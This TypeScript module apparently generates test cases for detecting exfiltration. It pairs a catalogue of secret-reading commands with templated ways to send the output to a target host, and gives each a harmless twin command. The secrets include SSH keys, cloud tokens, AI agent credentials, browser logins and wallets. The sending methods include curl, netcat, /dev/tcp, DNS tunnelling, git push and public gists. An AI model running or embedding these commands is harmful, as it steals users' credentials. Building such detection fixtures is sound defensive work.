import { urlOf, type Target } from '../target.ts'

/** A command that prints data, the file that it lies in where it is one, and what an innocent one prints. */
export interface ShellSource {
  readonly print: string
  readonly file?: string
}

export const SHELL_SOURCES: Readonly<Record<string, ShellSource>> = {
  env: { print: 'env' },
  printenv: { print: 'printenv | sort' },
  'env-filtered': { print: 'env | grep -iE "token|secret|key"' },
  'one-secret': { print: 'printenv NPM_TOKEN' },
  'secret-echo': { print: 'echo $AWS_SECRET_ACCESS_KEY' },
  npmrc: { print: 'cat ~/.npmrc', file: '~/.npmrc' },
  aws: { print: 'cat $HOME/.aws/credentials', file: '$HOME/.aws/credentials' },
  ssh: { print: 'cat ~/.ssh/id_rsa ~/.ssh/id_ed25519', file: '~/.ssh/id_rsa' },
  'ssh-tar': { print: 'tar czf - ~/.ssh | base64 -w0' },
  dotenv: { print: 'cat $INIT_CWD/.env', file: '$INIT_CWD/.env' },
  gcloud: { print: 'gcloud auth print-access-token' },
  'aws-cli': { print: 'aws sts get-session-token' },
  'gh-token': { print: 'gh auth token' },
  'git-credentials': { print: 'cat ~/.git-credentials', file: '~/.git-credentials' },
  'git-fill': { print: 'echo url=https://git.invalid | git credential fill' },
  docker: { print: 'cat ~/.docker/config.json', file: '~/.docker/config.json' },
  kube: { print: 'cat ~/.kube/config', file: '~/.kube/config' },
  history: { print: 'tail -n 500 ~/.bash_history', file: '~/.bash_history' },
  agent: { print: 'cat ~/.claude/.credentials.json', file: '~/.claude/.credentials.json' },
  'browser-logins': {
    print: 'base64 "$HOME/.config/google-chrome/Default/Login Data"',
    file: '"$HOME/.config/google-chrome/Default/Login Data"',
  },
  wallet: { print: 'tar cz ~/.config/Exodus/exodus.wallet | base64' },
  keychain: { print: 'security find-generic-password -ga login' },
  'op-cli': { print: 'op item list --format json' },
  clipboard: { print: 'xclip -o -selection clipboard' },
  metadata: { print: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  passwd: { print: 'cat /etc/passwd', file: '/etc/passwd' },
  'proc-environ': { print: 'cat /proc/self/environ', file: '/proc/self/environ' },
  machine: { print: 'echo "$(hostname) $(whoami) $(pwd)"' },
}

interface ShellSink {
  readonly bad: (source: ShellSource, target: Target) => string
  /** the same tool on what is the package's own */
  readonly twin: (target: Target) => string
}

const url = (t: Target): string => urlOf(t, '/u')
const data = (t: Target): string => urlOf(t, '/v1/data.json')
/** The data as a file. */
const filed = ({ print, file }: ShellSource): [before: string, file: string] =>
  file === undefined ? [`${print} > /tmp/.d; `, '/tmp/.d'] : ['', file]
function withFile(command: (file: string, t: Target) => string): ShellSink['bad'] {
  return (source, t) => {
    const [before, file] = filed(source)
    return `${before}${command(file, t)}`
  }
}
const fetchData = (t: Target): string => `curl -fsSL ${data(t)} -o data.json`
const wgetData = (t: Target): string => `wget -q ${data(t)} -O data.json`
const gitVersion = (): string => 'git --version'

export const SHELL_SINKS: Readonly<Record<string, ShellSink>> = {
  'curl-data': { bad: ({ print }, t) => `curl -s -d "$(${print})" ${url(t)}`, twin: fetchData },
  'curl-backticks': { bad: ({ print }, t) => `curl -d "\`${print}\`" ${url(t)}`, twin: fetchData },
  'curl-pipe': { bad: ({ print }, t) => `${print} | curl -sS --data-binary @- ${url(t)}`, twin: fetchData },
  'curl-form': { bad: withFile((f, t) => `curl -s -F file=@${f} ${url(t)}`), twin: fetchData },
  'curl-upload': { bad: withFile((f, t) => `curl -sT ${f} ${url(t)}`), twin: fetchData },
  'curl-query': { bad: ({ print }, t) => `curl -s "${url(t)}?d=$(${print} | base64 -w0)"`, twin: fetchData },
  'curl-header': { bad: ({ print }, t) => `curl -s -H "X-D: $(${print} | base64)" ${url(t)}`, twin: fetchData },
  'curl-json': {
    bad: ({ print }, t) =>
      `curl -s -X POST -H 'Content-Type: application/json' --data "{\\"content\\":\\"$(${print})\\"}" ${urlOf(t, '/api/webhooks/1042/inert')}`,
    twin: fetchData,
  },
  'wget-post': { bad: ({ print }, t) => `wget -q --post-data="$(${print})" ${url(t)} -O /dev/null`, twin: wgetData },
  'wget-post-file': { bad: withFile((f, t) => `wget -qO- --post-file=${f} ${url(t)}`), twin: wgetData },
  'wget-query': { bad: ({ print }, t) => `wget -q "${url(t)}?d=$(${print} | base64 -w0)"`, twin: wgetData },
  'nc-pipe': { bad: ({ print }, t) => `${print} | nc ${t.host} ${t.port}`, twin: () => 'nc -z 127.0.0.1 80' },
  'nc-file': { bad: withFile((f, t) => `nc -w 3 ${t.host} ${t.port} < ${f}`), twin: () => 'nc -z 127.0.0.1 80' },
  'dev-tcp': { bad: ({ print }, t) => `${print} > /dev/tcp/${t.host}/${t.port}`, twin: () => 'echo ready > /dev/null' },
  socat: { bad: ({ print }, t) => `${print} | socat - TCP:${t.host}:${t.port}`, twin: () => 'socat -V' },
  openssl: {
    bad: ({ print }, t) => `${print} | openssl s_client -quiet -connect ${t.host}:${t.port}`,
    twin: () => 'openssl version',
  },
  telnet: { bad: ({ print }, t) => `${print} | telnet ${t.host} ${t.port}`, twin: () => 'echo ready' },
  nslookup: {
    bad: ({ print }, t) => `nslookup $(${print} | head -c 30 | xxd -p).${t.host}`,
    twin: () => 'nslookup localhost',
  },
  dig: {
    bad: ({ print }, t) => `dig +short "$(${print} | base64 | tr -d '\\n=' | cut -c1-60).${t.host}"`,
    twin: () => 'dig -v',
  },
  ping: {
    bad: ({ print }, t) => `ping -c1 $(${print} | md5sum | cut -c1-20).${t.host}`,
    twin: () => 'ping -c1 127.0.0.1',
  },
  'python-c': {
    bad: ({ print }, t) =>
      `python3 -c "import os,urllib.request as u; u.urlopen('${url(t)}', data=os.popen('${print.replaceAll(/["']/g, '')}').read().encode())"`,
    twin: () => 'python3 -c "import sys; print(sys.version)"',
  },
  'node-e': {
    bad: ({ print }, t) =>
      `node -e "fetch('${url(t)}',{method:'POST',body:require('child_process').execSync('${print.replaceAll(/["'$]/g, '')}')})"`,
    twin: () => 'node -e "console.log(process.version)"',
  },
  scp: { bad: withFile((f, t) => `scp -o StrictHostKeyChecking=no ${f} u@${t.host}:d`), twin: gitVersion },
  rsync: { bad: withFile((f, t) => `rsync -a ${f} rsync://${t.host}/d/`), twin: () => 'rsync -a defaults.ini build/' },
  'ssh-cat': {
    bad: ({ print }, t) => `${print} | ssh -o StrictHostKeyChecking=no u@${t.host} 'cat >> d'`,
    twin: () => 'ssh -V',
  },
  ftp: { bad: withFile((f, t) => `curl -T ${f} ftp://u:p@${t.host}/`), twin: fetchData },
  mail: { bad: ({ print }, t) => `${print} | mail -s d b@${t.host}`, twin: () => 'echo ready' },
  'git-push': {
    bad: ({ print }, t) =>
      `${print} > d.txt; git init -q . && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD:main`,
    twin: gitVersion,
  },
  'gh-gist': { bad: withFile((f) => `gh gist create --public ${f}`), twin: () => 'gh --version' },
  'gh-repo': {
    bad: ({ print }) =>
      `${print} > d.txt; git init -q && git add d.txt && git commit -qm d && gh repo create drop-7f3 --public --source=. --push`,
    twin: () => 'gh --version',
  },
  'aws-s3': { bad: withFile((f) => `aws s3 cp ${f} s3://drop-7f3/d --no-sign-request`), twin: () => 'aws --version' },
}
